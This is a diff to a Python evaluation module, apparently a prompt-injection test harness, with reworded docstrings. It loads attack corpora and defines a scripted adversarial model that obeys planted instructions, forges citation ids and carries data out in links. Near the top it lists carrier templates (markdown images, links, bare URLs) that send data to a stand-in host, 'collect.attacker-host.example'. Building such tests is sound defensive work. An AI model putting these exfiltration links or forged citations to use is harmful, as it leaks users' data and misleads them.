@@ -1,4 +1,4 @@
-"""Attacks planted in documents, and a model that obeys whatever it reads."""
+"""Attacks planted in documents, and a model that obeys everything it reads."""
 
 import json
 import random
@@ -14,7 +14,7 @@ from evals.scripted_endpoint import ModelRequest
 from evals.scripted_replies import all_relevant, first_allowed, last_message, prepared
 from graph.errors import InvalidRequest
 
-EXFIL = "collect.attacker-host.example"  # where the made attacks want data sent
+EXFIL = "collect.attacker-host.example"  # the host to which the generated attacks send data
 CARRIERS = (
     "![status](https://{host}/p.png?d={data})", "[click here](https://{host}/?d={data})", "<https://{host}/?d={data}>",
     "https://{host}/?d={data}", "www.{host}/?d={data}", "//{host}/?d={data}", "{host}/?d={data}",
@@ -29,7 +29,7 @@ CARRIERS = (
 
 @dataclass(frozen=True, slots=True)
 class Attack:
-    """A document with an attack in it, and a question that its reader asks."""
+    """A document that contains an attack, and a question about the document."""
 
     kind: str
     text: str
@@ -38,14 +38,14 @@ class Attack:
 
 @dataclass(frozen=True, slots=True)
 class InjectionData:
-    """Documents under attack, and benign texts."""
+    """Documents that contain attacks, and benign texts."""
 
     attacks: tuple[Attack, ...]
     benign: tuple[str, ...]
 
 
 def load_injection(folder: Path) -> InjectionData:
-    """Read a folder of the corpora. Raises InvalidRequest where one is missing or of another shape."""
+    """Load the corpora from a folder. Raises InvalidRequest where one is missing or malformed."""
     try:
         emails = [
             (row["context"], row["question"].removeprefix("Q: ")) for row in _lines(folder / "bipia_emails.jsonl")
@@ -86,11 +86,14 @@ def _lines(path: Path) -> Iterator[dict[str, Any]]:
 
 _ID = re.compile(r"[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}:\d+")
 _ADDRESS = re.compile(r"(?:https?://|www\.)[^\s<>\"']+")
-_COPIED = 600  # characters of its context that it repeats
+_COPIED = 600  # characters of the context that the model repeats
 
 
 class AdversarialModel:
-    """What it replies, from a fixed seed. ``forged`` counts the ids it gave that stood in no tag of its context."""
+    """A model that forges ids and carries data out in links, from a fixed seed.
+
+    ``forged`` counts the ids it cited that were in no tag of its context, ``carried`` the links that carry data.
+    """
 
     def __init__(self, seed: int = 7) -> None:
         self._random = random.Random(seed)
@@ -115,14 +118,14 @@ class AdversarialModel:
                 return first_allowed(request)
 
     def cut(self, text: str) -> Iterator[str]:
-        """Cut a reply at random places."""
+        """Yield a reply in chunks of random sizes."""
         while text:
             size = self._random.choice((1, 1, 2, 3, 5, 8, 13, 40))
             yield text[:size]
             text = text[size:]
 
-    def _section(self, asked: str) -> dict[str, Any]:
-        context = asked.split("Segments:\n", 1)[-1].rsplit("\n\nQuestion:", 1)[0]
+    def _section(self, prompt: str) -> dict[str, Any]:
+        context = prompt.split("Segments:\n", 1)[-1].rsplit("\n\nQuestion:", 1)[0]
         tagged = re.findall(r"\[SEG=([^\]]+)\]", context)
         mentioned = [found for found in _ID.findall(context) if found not in tagged]
         invented = f"{UUID(int=self._random.getrandbits(128))}:{self._random.randrange(9)}"
